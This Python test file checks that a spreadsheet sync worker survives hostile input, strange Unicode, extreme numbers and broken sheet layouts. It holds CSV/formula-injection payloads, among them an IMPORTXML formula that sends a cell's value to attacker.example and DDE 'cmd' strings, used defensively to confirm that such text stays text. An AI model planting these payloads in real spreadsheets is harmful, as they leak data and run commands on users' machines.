"""
3. Hostile and broken input: formula text, huge and strange cells, broken layouts, size limits.

No input crashes a run: a bad row becomes a finding, a broken layout a one-line failure.
People's cells stay as typed, and text a person typed comes back as text: no cell the worker
wrote is a formula except its own links.
"""

from __future__ import annotations

import string
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rules import headers as h
from sheets_emulator import people
from sheets_emulator.http.server import run_emulator
from sheets_emulator.model.store import MAX_CELL_CHARS, MAX_CELLS, Formula, Store
from sync.backends.memory import MemoryBackend
from sync.core.cells import column_letter
from sync.core.errors import SyncError
from sync.core.settings import SyncSettings
from sync.demo.data import generate_spreadsheet
from sync.demo.seed import WORKER_TABS, load_demo, people_view
from sync.run.loop import run_sync
from tests.reliability._harness import (
    SPREADSHEET,
    fixed_clock,
    gspread_backend,
    no_pause,
    take,
)
from tests.reliability.conftest import Tally, found_and_fixed

pytestmark = pytest.mark.reliability

TAB = "ศก.1"
ONE_TAB = SyncSettings(spreadsheet_id=SPREADSHEET, regions=(TAB,))
_BASE = Store()
load_demo(
    _BASE,
    generate_spreadsheet(rows_per_region=4, seed=3, regions=(TAB,)),
    spreadsheet_id=SPREADSHEET,
)
BASE = _BASE.to_json()
HEADER = list(_BASE.get_values(SPREADSHEET, TAB, render="FORMULA")[2])

FORMULA_TEXT = (
    '=IMPORTXML("http://attacker.example/x?"&A4,"//a")',
    '=HYPERLINK("http://attacker.example","คลิก")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "=",
    "'=quoted",
    "\t=TAB-prefixed",
)
STRANGE = (
    "\x00\x01\x07\x1b\x7f",
    "ชื่อ\u200bซ่อน\u200c\u200d\ufeff",
    "\u202eสลับทิศ\u200f\u200e",
    "สมชาย 👩🏽‍💻🇹🇭",
    "\u0e31\u0e34\u0e47\u0e48\u0e4c",
    "ก\u0e48\u0e48\u0e48\u0e48\u0e48",
    "line1\nline2\r\nline3",
    " ",
)
TEXT_COLUMNS = (
    h.FULL_NAME,
    h.EMAIL,
    h.MOBILE,
    h.NATIONAL_ID,
    h.AGENCY,
    h.ACTIVITY_NAME,
    h.HOUSE_NO,
    h.REMARK,
    h.TAX_ID,
    h.ENTERPRISE_NAME,
)

hostile_text = st.one_of(
    st.sampled_from(FORMULA_TEXT),
    st.sampled_from(STRANGE),
    st.builds(
        lambda prefix, body: prefix + body,
        st.sampled_from("=+-@"),
        st.text(alphabet=string.printable + "กขคงจฉ๐๑", max_size=40),
    ),
    st.text(
        alphabet=st.characters(
            blacklist_categories=["Cs"],
            whitelist_categories=("L", "M", "N", "P", "S", "Z", "Cc", "Cf"),
        ),
        max_size=60,
    ),
)
edits = st.lists(
    st.tuples(st.integers(4, 7), st.sampled_from(TEXT_COLUMNS), hostile_text),
    min_size=1,
    max_size=6,
)


def _store() -> Store:
    return Store.from_json(BASE)


def _put(store: Store, row: int, header: str, value: Any) -> None:
    """Store a value exactly as given (as a RAW write or a paste keeps it): never parsed."""
    col = HEADER.index(header)
    store.set_values(SPREADSHEET, TAB, f"{column_letter(col)}{row}", [[value]], user_entered=False)


def _worker_formulas(store: Store) -> list[str]:
    """Formulas in cells the worker owns that are not its own links."""
    found = []
    with store.lock:
        spreadsheet = store.get(SPREADSHEET)
        for sheet in spreadsheet.sheets:
            header = [sheet.cell(2, c) for c in range(sheet.column_count)]
            owned = (
                range(sheet.column_count)
                if sheet.title in WORKER_TABS
                else [c for c, v in enumerate(header) if v in h.WORKER_HEADERS]
            )
            for r in range(3 if sheet.title not in WORKER_TABS else 0, sheet.row_count):
                for c in owned:
                    value = sheet.cell(r, c)
                    if isinstance(value, Formula) and not value.text.startswith(
                        '=HYPERLINK("#gid='
                    ):
                        found.append(f"{sheet.title}!{column_letter(c)}{r + 1}: {value.text!r}")
    return found


def _sync_twice(store: Store) -> list[str]:
    """
    Run, then run again: what went wrong if the run failed, the second run had anything to
    rewrite, or a person's cell changed.
    """
    before = people_view(take(store))
    problems: list[str] = []
    try:
        report = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
        again = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
    except SyncError as exc:
        problems.append(f"run failed: {exc}")
    else:
        if report.outcome != "ok":
            problems.append(f"run ended {report.outcome}: {report.error}")
        if again.writes:
            problems.append(f"a second run rewrote {again.cells_written} cells")
    if people_view(take(store)) != before:
        problems.append("people's cells changed")
    return problems


def _statuses(store: Store) -> dict[int, Any]:
    grid = store.get_values(SPREADSHEET, TAB, render="FORMULA")
    col = grid[2].index(h.CHECK_STATUS)
    return {r: row[col] if col < len(row) else None for r, row in enumerate(grid[3:], start=4)}


@settings(
    max_examples=30,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(edits=edits)
def test_hostile_text_in_peoples_cells(edits: list[tuple[int, str, str]], tally: Tally) -> None:
    """Formula prefixes, control, zero-width, RTL, emoji and combining marks: text stays text."""
    store = _store()
    for row, header, value in edits:
        _put(store, row, header, value)
    problems = _sync_twice(store)
    statuses = _statuses(store)
    for row, _, _ in edits:
        if statuses.get(row) not in (h.STATUS_PASS, h.STATUS_WARN, h.STATUS_FAIL):
            problems.append(f"row {row} has no status ({statuses.get(row)!r})")
    problems += [f"formula written: {f}" for f in _worker_formulas(store)]
    tally.record(not problems, f"{edits!r}: {problems}")
    assert not problems, f"{edits!r}: {problems}"


AMOUNT_COLUMNS = (
    h.WASTE_BEFORE,
    h.PRODUCED_BEFORE,
    h.WASTE_AFTER,
    h.PRODUCED_AFTER,
    h.SALES_BEFORE,
    h.SALES_AFTER,
    h.COST_BEFORE,
    h.COST_AFTER,
    h.INCOME_BEFORE,
    h.INCOME_AFTER,
)
numbers = st.one_of(
    st.integers(-(10**22), 10**22),
    st.floats(allow_nan=False, allow_infinity=False, min_value=-1e300, max_value=1e300),
    st.sampled_from([0, -0.0, 5e-324, 2**53 + 1, 1e15, "1e400", "๑๒๓", "1,000", True]),
)


@found_and_fixed(
    "sync/cells.py compared a figure exactly but the sheet stores it as a double, so one "
    "with more digits than a double holds was rewritten by every run"
)
@settings(
    max_examples=40,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(cells=st.lists(st.tuples(st.sampled_from(AMOUNT_COLUMNS), numbers), min_size=1, max_size=8))
def test_extreme_numbers_in_amount_columns(cells: list[tuple[str, Any]], tally: Tally) -> None:
    """Huge, tiny and odd numbers: the run works and the next one has nothing to rewrite."""
    store = _store()
    for header, value in cells:
        _put(store, 4, header, value)
    problems = _sync_twice(store)
    tally.record(not problems, f"{cells!r}: {problems}")
    assert not problems, f"{cells!r}: {problems}"


BEYOND_A_DOUBLE: dict[str, list[float]] = {
    "waste-1e308": [1e308, 1e-308, 0, 1e308],
    "every-amount-1e308": [1e308, 1e-308, 0, 1e308] * 2,
    "waste-tiny-denominator": [1e300, 5e-324, 1, 5e-324],
    "sales-huge": [1, 1, 1, 1, -1e308, 1e308],
    "twenty-digit-integers": [10**20, 3, 1, 3, 10**20 + 1, 10**21],
}


@found_and_fixed(
    "sync/cells.py sent a figure beyond a double's range as an infinite float; requests "
    "refused to encode it (InvalidJSONError), so the run crashed with nothing written"
)
@pytest.mark.parametrize("case", sorted(BEYOND_A_DOUBLE))
def test_numbers_beyond_a_double_over_http(case: str, tally: Tally) -> None:
    """A figure no sheet cell can hold as a number is written once, as text, through gspread."""
    store = _store()
    for header, value in zip(AMOUNT_COLUMNS, BEYOND_A_DOUBLE[case], strict=False):
        _put(store, 5, header, value)
    before = people_view(take(store))
    problems: list[str] = []
    with run_emulator(store) as emulator, gspread_backend(emulator.base_url) as backend:
        try:
            report = run_sync(backend, ONE_TAB, clock=fixed_clock, pause=no_pause)
            again = run_sync(backend, ONE_TAB, clock=fixed_clock)
        except SyncError as exc:
            problems.append(f"run failed: {exc}")
        except Exception as exc:  # an untranslated error is the crash this test looks for
            problems.append(f"crash: {type(exc).__name__}: {exc}")
        else:
            if report.outcome != "ok" or again.writes:
                problems.append(f"run {report.outcome}, the next rewrote {again.cells_written}")
    if people_view(take(store)) != before:
        problems.append("people's cells changed")
    tally.record(not problems, f"{case}: {problems}")
    tally.assert_clean()


def test_hostile_text_over_http(tally: Tally) -> None:
    """The same strings through gspread's JSON over a socket come back as the same text."""
    store = _store()
    values = [*FORMULA_TEXT, *STRANGE]
    for n, value in enumerate(values[1:]):
        _put(store, 5 + n % 3, TEXT_COLUMNS[n % len(TEXT_COLUMNS)], value)
    # The compiled list copies a counted row's enterprise name: it must arrive there as text.
    _put(store, 4, h.ENTERPRISE_NAME, FORMULA_TEXT[0])
    before = people_view(take(store))
    with run_emulator(store) as emulator, gspread_backend(emulator.base_url) as backend:
        report = run_sync(backend, ONE_TAB, clock=fixed_clock)
        again = run_sync(backend, ONE_TAB, clock=fixed_clock)
    problems = [f"formula written: {f}" for f in _worker_formulas(store)]
    if report.outcome != "ok" or again.writes:
        problems.append(f"run {report.outcome}, second run wrote {again.cells_written}")
    if people_view(take(store)) != before:
        problems.append("people's cells changed")
    compiled = store.get_values(SPREADSHEET, h.COMPILED_TAB, render="FORMULA")
    copied = [v for row in compiled for v in row if isinstance(v, str) and v.startswith("=IMP")]
    tally.record(not problems, str(problems))
    tally.record(copied == [FORMULA_TEXT[0]], f"enterprise name not copied as text: {copied}")
    tally.assert_clean()


@pytest.mark.parametrize("header", [h.FULL_NAME, h.EMAIL, h.NATIONAL_ID, h.REMARK, h.MOBILE])
def test_fifty_thousand_character_cells(header: str, tally: Tally) -> None:
    """A cell at Google's 50,000-character limit is a finding, never a failed write."""
    store = _store()
    _put(store, 4, header, ("ก๑a@" * MAX_CELL_CHARS)[:MAX_CELL_CHARS])
    _put(store, 5, header, "=" + "9" * (MAX_CELL_CHARS - 1))
    problems = _sync_twice(store)
    statuses = _statuses(store)
    if not {statuses.get(4), statuses.get(5)} <= {h.STATUS_PASS, h.STATUS_WARN, h.STATUS_FAIL}:
        problems.append(f"no status on the long rows: {statuses}")
    problems += _worker_formulas(store)
    tally.record(not problems, str(problems))
    tally.assert_clean()


def _sheet_id(store: Store, title: str) -> int:
    sheet = store.get(SPREADSHEET).sheet_by_title(title)
    assert sheet is not None
    return sheet.sheet_id


def _merge(first_row: int, last_row: int, first_col: int, last_col: int) -> Callable[[Store], None]:
    def edit(store: Store) -> None:
        grid = {
            "sheetId": _sheet_id(store, TAB),
            "startRowIndex": first_row - 1,
            "endRowIndex": last_row,
            "startColumnIndex": first_col,
            "endColumnIndex": last_col + 1,
        }
        people._batch(
            store, SPREADSHEET, [{"mergeCells": {"range": grid, "mergeType": "MERGE_ALL"}}]
        )

    return edit


def _header(old: str, new: Any) -> Callable[[Store], None]:
    def edit(store: Store) -> None:
        _put(store, 3, old, new)

    return edit


def _ragged(store: Store) -> None:
    for row in (4, 6):
        grid = store.get_values(SPREADSHEET, TAB, render="FORMULA")
        width = len(grid[row - 1])
        start = column_letter(width // 2)
        store.set_values(
            SPREADSHEET, TAB, f"{start}{row}", [[None] * (width - width // 2)], user_entered=False
        )
    store.set_values(SPREADSHEET, TAB, "A9", [["ศก.1 แถวสั้น"]], user_entered=False)


def _stray_right(store: Store) -> None:
    store.set_values(
        SPREADSHEET, TAB, f"{column_letter(len(HEADER) + 2)}5", [["โน้ตของฉัน"]], user_entered=False
    )


def _rename_tab(title: str) -> Callable[[Store], None]:
    def edit(store: Store) -> None:
        sheet_id = _sheet_id(store, TAB)
        people._batch(
            store,
            SPREADSHEET,
            [
                {
                    "updateSheetProperties": {
                        "properties": {"sheetId": sheet_id, "title": title},
                        "fields": "title",
                    }
                }
            ],
        )

    return edit


def _delete_tab(title: str) -> Callable[[Store], None]:
    def edit(store: Store) -> None:
        people._batch(store, SPREADSHEET, [{"deleteSheet": {"sheetId": _sheet_id(store, title)}}])

    return edit


def _clear_sheet(store: Store) -> None:
    grid = store.get_values(SPREADSHEET, TAB, render="FORMULA")
    width = max(len(r) for r in grid)
    store.set_values(SPREADSHEET, TAB, "A1", [[None] * width for _ in grid], user_entered=False)


LAYOUTS = {
    "merged-people-cells": (_merge(4, 6, 0, 1), "ok"),
    "merged-section-labels": (_merge(2, 2, 0, 12), "ok"),
    "merged-row-across-everything": (_merge(5, 5, 0, len(HEADER) + 25), "ok"),
    "ragged-rows": (_ragged, "ok"),
    "stray-value-right-of-header": (_stray_right, "ok"),
    "optional-header-renamed": (_header(h.REMARK, "หมายเหตุ (แก้)"), "ok"),
    "id-header-renamed": (_header(h.NATIONAL_ID, "เลขบัตร?"), "ok"),
    "id-and-name-headers-renamed": (
        lambda store: (
            _header(h.NATIONAL_ID, "เลขบัตร?")(store),
            _header(h.FULL_NAME, "ผู้เข้าร่วม")(store),
        ),
        "failed",
    ),
    "header-duplicated": (_header(h.REMARK, h.EMAIL), "ok"),
    "essential-header-duplicated": (_header(h.REMARK, h.NATIONAL_ID), "ok|failed"),
    "header-is-a-number": (_header(h.REMARK, 12345), "ok"),
    "header-with-formula-text": (_header(h.REMARK, "=HEADER()"), "ok"),
    "tab-renamed-spacing": (_rename_tab(" ศก. 1 "), "ok"),
    "tab-renamed": (_rename_tab("ศก.1 (สำเนา)"), "SheetLayoutError"),  # its only region
    "options-tab-missing": (_delete_tab(h.OPTIONS_TAB), "SheetLayoutError"),
    "empty-tab": (_clear_sheet, "failed"),
}


def _labelled_like(before: dict[str, Any], after: dict[str, Any]) -> dict[str, Any]:
    """
    `before` with the worker's section label where the run put it back.

    `people_view` finds the worker's columns under that label; a run that restores a
    cleared label must not make the block it labels look like people's cells that changed.
    """
    out = dict(before)
    for title, grid in before.items():
        labels = after.get(title, [])
        if len(grid) < 3 or len(labels) < 2:
            continue
        row, header = list(grid[1]), grid[2]
        for col, value in enumerate(labels[1]):
            if (
                value == h.WORKER_SECTION_LABEL
                and col < len(header)
                and header[col] in h.WORKER_HEADERS
            ):
                row.extend([None] * (col + 1 - len(row)))
                row[col] = value
        out[title] = [grid[0], row, *grid[2:]]
    return out


def _run_and_judge(store: Store, expected: str) -> list[str]:
    """
    Run once on an edited sheet; every way it falls short of the promises, as text.

    It must end as `expected` (alternatives joined by `|`), fail in one clear line if at
    all, leave people's cells alone, converge, and write no formula of its own but links.
    """
    before = take(store)
    problems: list[str] = []
    try:
        report = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
        outcome, message = report.outcome, report.error or ""
    except SyncError as exc:
        outcome, message = type(exc).__name__, str(exc)
    except Exception as exc:  # a crash is exactly what this scenario must never see
        outcome, message = f"crash {type(exc).__name__}", str(exc)
    if outcome not in expected.split("|"):
        problems.append(f"ended {outcome} ({message}), expected {expected}")
    if outcome != "ok" and (not message or "\n" in message):
        problems.append(f"unclear failure: {message!r}")
    after = take(store)
    if people_view(after) != people_view(_labelled_like(before, after)):
        problems.append("people's cells changed")
    if outcome == "ok":
        again = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
        if again.writes:
            problems.append(f"a second run rewrote {again.cells_written} cells")
    return problems + _worker_formulas(store)


@pytest.mark.parametrize("synced", [False, True], ids=["first-run", "steady"])
@pytest.mark.parametrize("case", sorted(LAYOUTS))
def test_broken_layout(case: str, synced: bool, tally: Tally) -> None:
    """Merges, ragged rows, renamed or doubled headers and tabs: a finding or a one-line failure."""
    edit, expected = LAYOUTS[case]
    store = _store()
    if synced:
        run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
    edit(store)
    problems = _run_and_judge(store, expected)
    tally.record(not problems, f"{case}: {problems}")
    tally.assert_clean()


def _dimension(kind: str, dimension: str, start: int, count: int = 1) -> Callable[[Store], None]:
    """Insert or delete rows or columns (0-based start), as the menu does."""

    def edit(store: Store) -> None:
        span = {
            "sheetId": _sheet_id(store, TAB),
            "dimension": dimension,
            "startIndex": start,
            "endIndex": start + count,
        }
        request = (
            {"insertDimension": {"range": span, "inheritFromBefore": start > 0}}
            if kind == "insert"
            else {"deleteDimension": {"range": span}}
        )
        people._batch(store, SPREADSHEET, [request])

    return edit


def _worker_column(header: str) -> int:
    synced = _store()
    run_sync(MemoryBackend(synced), ONE_TAB, clock=fixed_clock)
    return list(synced.get_values(SPREADSHEET, TAB, render="FORMULA")[2]).index(header)


def _in_block(row: int, header: str, value: Any) -> Callable[[Store], None]:
    def edit(store: Store) -> None:
        a1 = f"{column_letter(_worker_column(header))}{row}"
        store.set_values(SPREADSHEET, TAB, a1, [[value]], user_entered=False)

    return edit


def _delete_worker_column(header: str) -> Callable[[Store], None]:
    def edit(store: Store) -> None:
        _dimension("delete", "COLUMNS", _worker_column(header))(store)

    return edit


AFTER_A_SYNC = {
    "summary-tab-deleted": (_delete_tab(h.SUMMARY_TAB), "ok"),
    "compiled-tab-deleted": (_delete_tab(h.COMPILED_TAB), "ok"),
    "worker-column-deleted": (_delete_worker_column(h.CHECK_STATUS), "ok"),
    "worker-section-label-cleared": (_in_block(2, h.WASTE_REDUCTION_PCT, None), "ok"),
    "person-typed-in-worker-column": (_in_block(5, h.DETAILS, "ผ่านแล้ว?"), "ok"),
    "worker-header-renamed-by-person": (_in_block(3, h.DETAILS, "รายละเอียดของฉัน"), "ok"),
    "people-column-inserted": (_dimension("insert", "COLUMNS", 1), "ok"),
    "people-column-deleted": (_dimension("delete", "COLUMNS", len(HEADER) - 2), "ok"),
    "row-inserted-above-header": (_dimension("insert", "ROWS", 0), "failed"),
    "title-row-deleted": (_dimension("delete", "ROWS", 0), "failed"),
    "all-data-rows-deleted": (_dimension("delete", "ROWS", 3, 4), "ok"),
}


@pytest.mark.parametrize("case", sorted(AFTER_A_SYNC))
def test_sheet_rearranged_after_a_sync(case: str, tally: Tally) -> None:
    """Worker tabs, columns or labels removed, columns shifted: repaired, or one clear line."""
    edit, expected = AFTER_A_SYNC[case]
    store = _store()
    run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
    edit(store)
    problems = _run_and_judge(store, expected)
    tally.record(not problems, f"{case}: {problems}")
    tally.assert_clean()


QUOTED_TITLES = ("ศก.1'", "'ศก.1'", "ศก!1", "ศก.1''x", "A1", "R1C1", "Sheet1!A1", "ศก.1 (ใหม่)")


@pytest.mark.parametrize("title", QUOTED_TITLES)
def test_tab_titles_that_need_quoting(title: str, tally: Tally) -> None:
    """Regional tabs named with quotes, `!` or like a cell address sync through gspread."""
    store = _store()
    _rename_tab(title)(store)
    before = people_view(take(store))
    regions = SyncSettings(spreadsheet_id=SPREADSHEET, regions=(title,))
    with run_emulator(store) as emulator, gspread_backend(emulator.base_url) as backend:
        report = run_sync(backend, regions, clock=fixed_clock, pause=no_pause)
        again = run_sync(backend, regions, clock=fixed_clock)
    ok = "ok" == report.outcome and 0 == again.writes and people_view(take(store)) == before
    tally.record(ok, f"{title!r}: {report.outcome} {report.error}, again {again.writes}")
    tally.assert_clean()


@found_and_fixed(
    "rules/header_map.py took a worker header outside the worker's section as the worker's "
    "column, so a first run overwrote a person's column titled e.g. 'รายละเอียด' (fixed there "
    "by its owner)"
)
@pytest.mark.parametrize("synced", [False, True], ids=["first-run", "steady"])
@pytest.mark.parametrize("title", [h.DETAILS, h.CHECK_STATUS])
def test_people_column_titled_like_a_worker_column(synced: bool, title: str, tally: Tally) -> None:
    """A person's own column headed like a worker column keeps every value typed in it."""
    store = _store()
    if synced:
        run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
    col = HEADER.index(h.REMARK)
    _put(store, 3, h.REMARK, title)
    for row in range(4, 8):
        _put(store, row, h.REMARK, f"บันทึกของฉัน {row}")
    run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
    grid = take(store)[TAB]
    kept = [grid[r - 1][col] if col < len(grid[r - 1]) else None for r in range(4, 8)]
    ok = kept == [f"บันทึกของฉัน {r}" for r in range(4, 8)]
    tally.record(ok, f"column now holds {kept!r}")
    tally.assert_clean()


@pytest.mark.parametrize("lost", ["header retyped", "column deleted"])
@pytest.mark.parametrize("title", [h.DETAILS, h.CHECK_STATUS])
def test_a_persons_column_beside_the_block_is_not_taken_for_a_lost_worker_column(
    lost: str, title: str, tally: Tally
) -> None:
    """
    A person adds a column of their own right of the worker block, headed like a worker
    column, and types notes in it; then the worker's column of that header loses its header
    (retyped) or is deleted. The next run adds the worker's column anew and writes its
    results there: the person's notes stay as typed, and a second run finds nothing to do.
    """
    store = _store()
    run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
    header = take(store)[TAB][2]
    mine = max(c for c, v in enumerate(header) if v not in (None, "")) + 1
    worker = header.index(title)
    letter = column_letter(mine)
    notes = [f"บันทึกของคุณสมศรี {row}" for row in range(4, 8)]
    people.type_value(store, SPREADSHEET, TAB, f"{letter}3", title)
    people.type_values(store, SPREADSHEET, TAB, f"{letter}4", [[note] for note in notes])
    if lost == "header retyped":
        people.type_value(store, SPREADSHEET, TAB, f"{column_letter(worker)}3", f"{title}เดิม")
    else:
        people.delete_columns(store, SPREADSHEET, TAB, worker + 1)
        mine -= 1
    report = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
    grid = take(store)[TAB]
    kept = [grid[r - 1][mine] if mine < len(grid[r - 1]) else None for r in range(3, 8)]
    again = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
    ok = (report.outcome, kept, again.writes) == ("ok", [title, *notes], 0)
    tally.record(ok, f"run {report.outcome}, column now {kept!r}, then {again.writes} writes")
    tally.assert_clean()


@pytest.mark.parametrize("synced", [False, True], ids=["first-run", "steady"])
def test_ten_million_cell_limit(synced: bool, tally: Tally) -> None:
    """A spreadsheet at Google's 10,000,000-cell limit: the run ends in one clear line, or works."""
    store = _store()
    if synced:
        run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
    spreadsheet = store.get(SPREADSHEET)
    sheet = spreadsheet.sheet_by_title(TAB)
    assert sheet is not None
    others = spreadsheet.cell_count() - sheet.row_count * sheet.column_count
    rows = (MAX_CELLS - others) // sheet.column_count
    people._batch(
        store,
        SPREADSHEET,
        [
            {
                "updateSheetProperties": {
                    "properties": {"sheetId": sheet.sheet_id, "gridProperties": {"rowCount": rows}},
                    "fields": "gridProperties.rowCount",
                }
            }
        ],
    )
    assert MAX_CELLS - spreadsheet.cell_count() < sheet.column_count
    before = people_view(take(store))
    problems: list[str] = []
    try:
        report = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
        outcome, message = report.outcome, report.error or ""
    except SyncError as exc:
        outcome, message = type(exc).__name__, str(exc)
    if outcome != "ok" and (not message or "\n" in message or "10000000" not in message):
        problems.append(f"unclear failure: {outcome}: {message!r}")
    if people_view(take(store)) != before:
        problems.append("people's cells changed")
    if store.get(SPREADSHEET).cell_count() > MAX_CELLS:
        problems.append("the sheet grew past the limit")
    tally.record(not problems, str(problems))
    tally.assert_clean()


def test_a_worker_block_deleted_whole_comes_back_under_names_google_still_holds(
    tally: Tally,
) -> None:
    """
    Someone deletes the whole worker block of a tab. Google keeps the names of its column
    anchors, unlisted (#REF!), and refuses to add them again: the run learns the name it was
    refused, names the tab's new anchors by a generation of their own, and finishes; nothing
    people typed moves, and a second run has nothing to do.
    """
    store = _store()
    run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock)
    header = take(store)[TAB][2]
    block = [c for c, v in enumerate(header) if v in h.WORKER_HEADERS]
    before = people_view(take(store))
    people.delete_columns(store, SPREADSHEET, TAB, min(block) + 1, len(block))
    report = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
    names = [str(n["name"]) for n in store.get(SPREADSHEET).named_ranges]
    again = run_sync(MemoryBackend(store), ONE_TAB, clock=fixed_clock, pause=no_pause)
    ok = (
        report.outcome == "ok"
        and again.writes == 0
        and people_view(take(store)) == before
        and len([n for n in names if "__" in n]) == len(block)
    )
    tally.record(ok, f"run {report.outcome} {report.error}, then {again.writes} writes; {names}")
    tally.assert_clean()
